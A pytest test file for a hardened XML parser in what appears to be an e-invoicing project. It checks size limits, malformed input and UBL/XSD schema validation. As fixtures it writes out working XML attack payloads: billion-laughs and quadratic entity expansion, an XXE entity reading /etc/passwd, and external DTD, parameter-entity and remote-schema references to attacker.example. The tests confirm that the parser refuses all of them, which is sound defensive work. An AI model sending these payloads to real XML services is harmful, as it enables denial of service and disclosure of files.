"""The hardened XML parser: DTD attacks, size limits, malformed input, XSD validation."""

import re
from pathlib import Path

import pytest
from lxml import etree

from rathaus.kernel import xmlsafe

REPO_ROOT = Path(__file__).resolve().parents[4]
SHARED = REPO_ROOT.parent / "shared"
UBL_XSD = SHARED / "einvoice/kosit-validator-configuration/resources/ubl/2.1/xsd/maindoc/UBL-Invoice-2.1.xsd"
UBL_SAMPLE = SHARED / "einvoice/testsuite/xrechnung-testsuite/business-cases/standard/01.01a-INVOICE_ubl.xml"
needs_shared = pytest.mark.skipif(
    not UBL_XSD.exists() or not UBL_SAMPLE.exists(),
    reason=f"shared e-invoice standards not found at {SHARED} (checkout ../shared next to the repository)",
)

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>"""
QUADRATIC = (
    b'<?xml version="1.0"?><!DOCTYPE kaboom [<!ENTITY a "'
    + b"x" * 50_000
    + b'">]><kaboom>'
    + b"&a;" * 10_000
    + b"</kaboom>"
)
XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r>x</r>"""
PARAMETER_ENTITY = b"""<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><r/>"""
DOCTYPE_AFTER_COMMENT = b"""<?xml version="1.0"?><!-- harmless --><?pi x?>\n<!doctype r><r/>"""
UTF16_DOCTYPE = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY a "b">]><r>&a;</r>'.encode(
    "utf-16"
)


@pytest.mark.parametrize(
    "data",
    [
        BILLION_LAUGHS,
        QUADRATIC,
        XXE_FILE,
        EXTERNAL_DTD,
        PARAMETER_ENTITY,
        DOCTYPE_AFTER_COMMENT,
        UTF16_DOCTYPE,
    ],
    ids=[
        "billion-laughs",
        "quadratic-blowup",
        "xxe-file",
        "external-dtd-http",
        "parameter-entity",
        "after-comment-and-pi",
        "utf16",
    ],
)
def test_any_doctype_is_refused_before_parsing(data):
    """Entity expansion and external entities are impossible: the DOCTYPE itself is refused."""
    with pytest.raises(xmlsafe.XmlRejected, match="DTD") as error:
        xmlsafe.parse(data)
    assert error.value.code == "xml_dtd_forbidden"


def test_oversized_input_is_refused():
    """More than max_bytes is refused without parsing."""
    with pytest.raises(xmlsafe.XmlRejected, match="höchstens 100 Bytes") as error:
        xmlsafe.parse(b"<r>" + b"x" * 200 + b"</r>", max_bytes=100)
    assert error.value.code == "xml_too_large"


@pytest.mark.parametrize(
    ("data", "line"),
    [(b"<r>\n<a>\n</r>", 3), (b"", 1), (b"not xml", 1), (b"<r>&undefined;</r>", 1)],
)
def test_malformed_xml_names_the_position(data, line):
    """Malformed input is refused with line and column."""
    with pytest.raises(xmlsafe.XmlRejected) as error:
        xmlsafe.parse(data)
    assert error.value.code == "xml_malformed"
    assert error.value.line == line
    assert error.value.column is not None


def test_well_formed_xml_parses_with_namespaces_and_comments():
    """Ordinary documents parse; comments in the prolog are fine."""
    root = xmlsafe.parse(
        b'<?xml version="1.0" encoding="UTF-8"?><!-- c --><a xmlns="urn:x"><b>\xc3\xa4</b></a>'
    )
    assert root.tag == "{urn:x}a"
    assert root[0].text == "ä"


def test_processing_instructions_can_be_removed():
    """remove_pis drops processing instructions inside the document."""
    root = xmlsafe.parse(b"<a><?evil x?><b/></a>", remove_pis=True)
    assert [child.tag for child in root] == ["b"]


def test_text_instead_of_bytes_is_a_programming_error():
    """The parser needs the raw bytes so the declared encoding is honoured."""
    with pytest.raises(TypeError):
        xmlsafe.parse("<a/>")  # type: ignore[arg-type]


@needs_shared
def test_real_ubl_invoice_validates_against_the_ubl_schema():
    """A sample from the XRechnung test suite is valid UBL 2.1."""
    root = xmlsafe.parse(UBL_SAMPLE.read_bytes())
    assert xmlsafe.validate(root, UBL_XSD) == []


@needs_shared
def test_schema_errors_are_reported_with_position():
    """An unknown element where the invoice ID belongs is invalid; the error names line and element."""
    data = re.sub(
        rb"<cbc:ID>([^<]*)</cbc:ID>",
        rb"<cbc:Unexpected>\1</cbc:Unexpected>",
        UBL_SAMPLE.read_bytes(),
        count=1,
    )
    errors = xmlsafe.validate(xmlsafe.parse(data), UBL_XSD)
    line = data[: data.index(b"<cbc:Unexpected>")].count(b"\n") + 1
    assert errors
    assert errors[0].line == line and "Unexpected" in errors[0].message


def test_schema_may_not_pull_remote_includes(tmp_path):
    """A schema that includes a file over http is refused instead of fetched."""
    xsd = tmp_path / "remote.xsd"
    xsd.write_text(
        '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">'
        '<xs:include schemaLocation="http://attacker.example/evil.xsd"/></xs:schema>'
    )
    with pytest.raises((xmlsafe.XmlRejected, etree.XMLSchemaParseError)):
        xmlsafe.validate(xmlsafe.parse(b"<a/>"), xsd)


def test_local_schema_validates_and_reports_errors(tmp_path):
    """A small local schema: valid input gives [], invalid input names line and message."""
    xsd = tmp_path / "menge.xsd"
    xsd.write_text(
        '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">'
        '<xs:element name="menge" type="xs:positiveInteger"/></xs:schema>'
    )
    assert xmlsafe.validate(xmlsafe.parse(b"<menge>3</menge>"), xsd) == []
    errors = xmlsafe.validate(xmlsafe.parse(b"\n<menge>drei</menge>"), xsd)
    assert [error.line for error in errors] == [2]
    assert "drei" in errors[0].message
